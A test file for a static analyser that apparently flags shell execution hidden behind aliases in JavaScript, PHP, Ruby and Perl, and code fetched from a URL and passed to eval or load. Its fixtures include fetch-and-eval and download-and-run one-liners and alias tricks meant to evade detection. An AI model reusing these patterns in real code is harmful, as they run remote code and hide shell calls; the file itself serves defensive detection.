import { describe, expect, it } from "vitest";
import { brief } from "../../../../test/support/brief.ts";
import { readCode } from "../code.ts";

describe("calls under another name", () => {
  it.each([
    ["javascript", "const {exec: e} = require('child_process'); e('id')"],
    ["javascript", "let {readFile, execSync: e} = require('node:child_process'); e('id')"],
    ["javascript", "const {exec: e} = await import('child_process'); e('id')"],
    ["javascript", "import {exec as e} from 'node:child_process'; e('id')"],
    ["javascript", "import * as c from 'child_process'; c.exec('id')"],
    ["javascript", "import c from 'child_process'; c.exec('id')"],
    ["javascript", "import('child_process').then(c => c.exec('id'))"],
    ["javascript", "import('child_process').then((c) => { c.exec('id') })"],
    ["php", "use function system as s; s('id');"],
    ["ruby", "alias s system; s 'id'"],
    ["ruby", "alias :s :system\ns('id')"],
    ["ruby", "m = method(:system); m.call('id')"],
    ["perl", "*r = \\&system; r 'id'"],
  ])("are found in %s: %s", (language, code) => {
    expect(readCode(language, code).map(brief)).toEqual(["sh: id"]);
  });

  it.each([
    ["javascript", "const {exec: e} = require('./own'); e('id')"],
    ["javascript", "const {exec: e} = other; e('id')"],
    ["javascript", "import {"],
    ["javascript", "x.then(c => c.run('id'))"],
    ["ruby", "alias"],
    ["perl", "*r = 3; r('id')"],
    ["php", "use function own as s; s('id');"],
  ])("are not made up in %s: %s", (language, code) => {
    expect(
      readCode(language, code)
        .map(brief)
        .filter((one) => one.startsWith("sh:")),
    ).toEqual([]);
  });
});

describe("what an address holds, run by a function that a promise calls", () => {
  it.each([
    "fetch('http://h/a.js').then(r => r.text()).then(eval)",
    "fetch('http://h/a.js').then(r => r.text()).then(t => eval(t))",
    "fetch('http://h/a.js').then(async (r) => eval(await r.text()))",
    "fetch('http://h/a.js').then(function (r) { return r.text() }).then(function (t) { eval(t) })",
  ])("%s", (code) => {
    expect(readCode("node", code).map(brief)).toEqual(["runs script http://h/a.js"]);
  });

  it.each(["constructor", "__defineGetter__", "__proto__", "toString"])(
    "is fetched only, whatever objects have: %s",
    (name) => {
      expect(readCode("node", `fetch('http://h/a.js').then(${name})`).map(brief)).toEqual([
        "fetches script http://h/a.js",
      ]);
    },
  );

  it("is fetched only where nothing runs it", () => {
    const code = "fetch('http://h/a.js').then(r => r.text()).then(console.log)";
    expect(readCode("node", code).map(brief)).toEqual(["fetches script http://h/a.js"]);
  });
});

describe("code that is run and not known, where the code holds an address", () => {
  it.each([
    ["lua", "load(require('socket.http').request('http://h/a.lua'))()"],
    ["perl", "eval HTTP::Tiny->new->get('http://h/a.lua')->{content}"],
  ])("is what lies there, in %s", (language, code) => {
    expect(readCode(language, code).map(brief)).toEqual(["runs script http://h/a.lua"]);
  });
});
